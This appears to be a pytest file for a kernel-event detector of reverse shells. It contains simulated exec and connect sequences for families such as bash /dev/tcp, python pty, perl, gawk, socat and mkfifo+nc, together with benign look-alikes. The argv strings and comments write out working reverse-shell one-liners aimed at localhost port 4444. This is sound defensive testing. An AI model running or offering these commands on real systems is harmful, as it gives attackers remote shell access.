"""Reverse shells from kernel evidence: each family as the kernel events show it, with
explicit times, and benign sequences that look alike in argv but not in evidence."""

from __future__ import annotations

from collections.abc import Callable, Sequence

import pytest

from processors.engine.step import EngineEvent
from schemas import StdioKind
from tests.unit.processors.conftest import INET, PIPE, TTY, Feed, kconnect, kexec, kexit

UNIX, FILE = StdioKind.UNIX, StdioKind.FILE
LOOP = "127.0.0.1"
PYTHON = "/usr/bin/python3"
PY_EXE = "/usr/bin/python3.11"

FAMILIES: dict[str, Sequence[EngineEvent]] = {
    # bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1': the outer bash connects, dup2s
    # the socket and execs the interactive one in the same pid.
    "bash /dev/tcp": [
        kexec(1.0, 20, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
        kconnect(1.1, 20, LOOP, 4444, comm="bash", exe="/usr/bin/bash"),
        kexec(1.2, 20, "/usr/bin/bash", "bash", "-i", stdio=(INET, INET, INET)),
    ],
    # exec 5<>/dev/tcp/...; cat <&5 | while read l; do $l >&5; done: the shell itself connects,
    # its children read the socket.
    "bash /dev/tcp fd": [
        kexec(1.0, 30, "/usr/bin/bash", "bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5 | sh"),
        kconnect(1.1, 30, LOOP, 4444, comm="bash", exe="/usr/bin/bash"),
        kexec(1.2, 31, "/usr/bin/cat", "cat", ppid=30, stdio=(INET, PIPE, PIPE)),
    ],
    # python -c 'socket...; os.dup2(s.fileno(), 0..2); pty.spawn("/bin/sh")'
    "python pty": [
        kexec(1.0, 40, PYTHON, "python3", "-c", "import pty", exe=PY_EXE),
        kconnect(1.1, 40, LOOP, 4444, comm="python3", exe=PY_EXE),
        kexec(
            1.2,
            41,
            "/bin/sh",
            "/bin/sh",
            exe="/usr/bin/dash",
            ppid=40,
            stdio=(TTY, TTY, TTY),
            parent_stdio=(INET, INET, INET),
        ),
    ],
    # perl -e 'socket(S,...); connect(S,...); open(STDIN,">&S"); ...; exec("/bin/sh -i")'
    "perl": [
        kexec(1.0, 50, "/usr/bin/perl", "perl", "-e", "use Socket;..."),
        kconnect(1.1, 50, LOOP, 4444, comm="perl", exe="/usr/bin/perl"),
        kexec(1.2, 50, "/bin/sh", "/bin/sh", "-i", exe="/usr/bin/dash", stdio=(INET, INET, INET)),
    ],
    # gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/4444"; ... c |& getline }': gawk runs each
    # command it reads through sh -c, over pipes.
    "awk /inet": [
        kexec(1.0, 60, "/usr/bin/gawk", "gawk", "BEGIN {...}"),
        kconnect(1.1, 60, LOOP, 4444, comm="gawk", exe="/usr/bin/gawk"),
        kexec(1.2, 61, "/bin/sh", "sh", "-c", "id", exe="/usr/bin/dash", ppid=60),
    ],
    # socat TCP:127.0.0.1:4444 EXEC:/bin/sh: a socketpair, not the inet socket, on sh's stdio.
    "socat": [
        kexec(1.0, 70, "/usr/bin/socat", "socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh"),
        kconnect(1.1, 70, LOOP, 4444, comm="socat", exe="/usr/bin/socat"),
        kexec(1.2, 71, "/bin/sh", "/bin/sh", exe="/usr/bin/dash", ppid=70, stdio=(UNIX, UNIX, UNIX)),
    ],
    # rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f
    "mkfifo + nc": [
        kexec(1.0, 80, "/bin/sh", "sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc ...", pgid=80),
        kexec(
            1.1,
            81,
            "/usr/bin/cat",
            "cat",
            "/tmp/f",
            ppid=80,
            pgid=80,
            stdio_ids=("/dev/null", "pipe:[1]", "x"),
        ),
        kexec(
            1.1,
            82,
            "/bin/sh",
            "sh",
            "-i",
            exe="/usr/bin/dash",
            ppid=80,
            pgid=80,
            stdio_ids=("pipe:[1]", "pipe:[2]", "pipe:[2]"),
        ),
        kexec(
            1.1,
            83,
            "/usr/bin/nc",
            "nc",
            "127.0.0.1",
            "4444",
            exe="/usr/bin/nc.openbsd",
            ppid=80,
            pgid=80,
            stdio=(PIPE, FILE, PIPE),
            stdio_ids=("pipe:[2]", "/tmp/f", "pipe:[3]"),
        ),
        kconnect(1.2, 83, LOOP, 4444, comm="nc", exe="/usr/bin/nc.openbsd"),
    ],
}


def _revshells(f: Feed) -> list[str]:
    return [v.rule_id for v in f.violations if v.rule_id.startswith("process.reverse_shell")]


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_each_family_is_a_critical_immediate_reverse_shell(feed: Callable[..., Feed], family: str) -> None:
    f = feed(auto_terminate_on_violation=True, blocked_commands=set())
    f(*FAMILIES[family])
    assert _revshells(f) == ["process.reverse_shell"], family
    v = next(v for v in f.violations if v.rule_id == "process.reverse_shell")
    assert v.severity.value == "critical" and v.disposition.value == "terminated"
    assert "reverse shell:" in v.message and v.evidence.samples[0]["why"]
    assert [c.action.value for c in f.commands] == ["terminate"]


def test_mkfifo_with_the_connect_before_the_shell(feed: Callable[..., Feed]) -> None:
    f = feed(blocked_commands=set())
    nc = kexec(1.0, 83, "/usr/bin/nc", "nc", "127.0.0.1", "4444", ppid=80, pgid=80,
               stdio_ids=("pipe:[2]", "/tmp/f", "pipe:[3]"))  # fmt: skip
    sh = kexec(
        1.2, 82, "/bin/sh", "sh", "-i", ppid=80, pgid=80, stdio_ids=("pipe:[1]", "pipe:[2]", "pipe:[2]")
    )
    f(nc, kconnect(1.1, 83, LOOP, 4444, comm="nc"), sh)
    assert _revshells(f) == ["process.reverse_shell"]


@pytest.mark.parametrize("pgid", [80, None], ids=["process group", "same parent"])
def test_mkfifo_without_pipe_identities_falls_back_to_the_pipeline(
    feed: Callable[..., Feed], pgid: int | None
) -> None:
    f = feed(blocked_commands=set())
    f(
        kexec(1.0, 82, "/bin/sh", "sh", "-i", ppid=80, pgid=pgid),
        kexec(
            1.0, 83, "/usr/bin/nc", "nc", "127.0.0.1", "4444", ppid=80, pgid=pgid, stdio=(PIPE, FILE, PIPE)
        ),
        kconnect(1.1, 83, LOOP, 4444, comm="nc"),
    )
    assert _revshells(f) == ["process.reverse_shell"]


def test_a_shell_on_a_terminal_beside_a_client_is_not_piped_to_it(feed: Callable[..., Feed]) -> None:
    f = feed(blocked_commands=set())
    f(
        kexec(1.0, 82, "/bin/sh", "sh", "-i", ppid=80, stdio=(TTY, TTY, TTY)),
        kexec(1.0, 83, "/usr/bin/nc", "nc", "127.0.0.1", "4444", ppid=80),
        kconnect(1.1, 83, LOOP, 4444, comm="nc"),
    )
    assert _revshells(f) == []


BENIGN: dict[str, Sequence[EngineEvent]] = {
    # A script that talks to a local test server, then runs a command through a shell.
    "python client then sh -c": [
        kexec(1.0, 10, PYTHON, "python3", "client.py", exe=PY_EXE),
        kconnect(1.1, 10, LOOP, 8000, comm="python3"),
        kexec(1.2, 11, "/bin/sh", "sh", "-c", "ls -l", exe="/usr/bin/dash", ppid=10),
    ],
    # Shell words in argv, pipes everywhere, no connection.
    "grep for shells": [
        kexec(1.0, 10, "/bin/sh", "sh", "-c", "grep -e sh notes.txt | sort", pgid=10),
        kexec(
            1.1,
            11,
            "/usr/bin/grep",
            "grep",
            "-e",
            "sh",
            "notes.txt",
            ppid=10,
            pgid=10,
            stdio_ids=("/dev/null", "pipe:[5]", "pipe:[6]"),
        ),
        kexec(
            1.1, 12, "/usr/bin/sort", "sort", ppid=10, pgid=10, stdio_ids=("pipe:[5]", "pipe:[7]", "pipe:[6]")
        ),
    ],
    # A shell reading a script from a pipe, nobody connected.
    "cat script | sh": [
        kexec(1.0, 10, "/usr/bin/cat", "cat", "run.txt", pgid=10, stdio_ids=("/dev/null", "pipe:[9]", "x")),
        kexec(1.0, 11, "/bin/sh", "sh", pgid=10, stdio_ids=("pipe:[9]", "pipe:[8]", "pipe:[8]")),
    ],
    # A port probe and a shell script in one command: the shell does not read stdin.
    "nc -z then sh script": [
        kexec(1.0, 10, "/usr/bin/nc", "nc", "-z", "127.0.0.1", "80", pgid=5),
        kconnect(1.1, 10, LOOP, 80, comm="nc", result=111),
        kexec(1.2, 11, "/bin/sh", "sh", "build.sh", pgid=5),
    ],
    # A shell on a terminal started by an interpreter on a terminal.
    "interactive shell on a tty": [
        kexec(1.0, 10, PYTHON, "python3", exe=PY_EXE, stdio=(TTY, TTY, TTY)),
        kexec(1.1, 11, "/bin/sh", "sh", "-i", ppid=10, stdio=(TTY, TTY, TTY), parent_stdio=(TTY, TTY, TTY)),
    ],
    # A connected shell's process gone before a pid reuse: the new process is not its child.
    "exit clears": [
        kexec(1.0, 10, "/usr/bin/bash", "bash", "-c", "echo > /dev/tcp/127.0.0.1/80"),
        kconnect(1.1, 10, LOOP, 80, comm="bash"),
        kexit(1.2, 10),
        kexec(1.3, 11, "/bin/sh", "sh", "-c", "true", ppid=10),
    ],
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_sequences_are_not_reverse_shells(feed: Callable[..., Feed], case: str) -> None:
    f = feed(auto_terminate_on_violation=True, violation_threshold=1)
    f(*BENIGN[case])
    assert _revshells(f) == [], case
    assert [c for c in f.commands if "process.reverse_shell" in c.rule_ids] == []


def test_the_process_table_is_bounded(feed: Callable[..., Feed]) -> None:
    from processors.engine.state import MAX_KPROCS

    f = feed()
    f(*(kexec(1 + i / 1000, 1000 + i, "/bin/true", "true") for i in range(MAX_KPROCS + 50)))
    assert f.state is not None and len(f.state.procs) == MAX_KPROCS
    assert min(f.state.procs) == 1050  # the oldest went first


def _failed_or_accepted(pid: int, port: int, new_state: str) -> EngineEvent:
    """The socket's state change after a non-blocking connect, in softirq (pid 0)."""
    return kconnect(1.2, 0, LOOP, port, phase="state", old_state="SYN_SENT", new_state=new_state,
                    sport=40000 + pid, result=None)  # fmt: skip


WAIT_FOR_PORT = "until echo >/dev/tcp/127.0.0.1/5432; do sleep 1; done; sh run.sh"


def test_a_shell_after_a_connect_that_failed_is_not_a_reverse_shell(feed: Callable[..., Feed]) -> None:
    """A wait-for-port loop: bash tries /dev/tcp (refused, or a non-blocking connect the
    far end never accepted), then runs a shell for its real work."""
    refused = feed()
    refused(
        kexec(1.0, 20, "/usr/bin/bash", "bash", "-c", WAIT_FOR_PORT),
        kconnect(1.1, 20, LOOP, 5432, comm="bash", exe="/usr/bin/bash", result=111),
        kexec(1.2, 21, "/bin/sh", "sh", "run.sh", exe="/usr/bin/dash", ppid=20),
    )
    assert refused.violations == []
    failed_later = feed()
    failed_later(
        kexec(1.0, 30, "/usr/bin/bash", "bash", "-c", WAIT_FOR_PORT),
        kconnect(1.1, 30, LOOP, 5432, comm="bash", exe="/usr/bin/bash", result=115, sport=40030),
        _failed_or_accepted(30, 5432, "CLOSE"),
        kexec(1.3, 31, "/bin/sh", "sh", "run.sh", exe="/usr/bin/dash", ppid=30),
    )
    assert failed_later.violations == []
    accepted = feed()
    accepted(
        kexec(1.0, 40, "/usr/bin/bash", "bash", "-c", "..."),
        kconnect(1.1, 40, LOOP, 4444, comm="bash", exe="/usr/bin/bash", result=115, sport=40040),
        _failed_or_accepted(40, 4444, "ESTABLISHED"),
        kexec(1.3, 41, "/bin/sh", "sh", exe="/usr/bin/dash", ppid=40),
    )
    assert [v.rule_id for v in accepted.violations] == ["process.reverse_shell"]
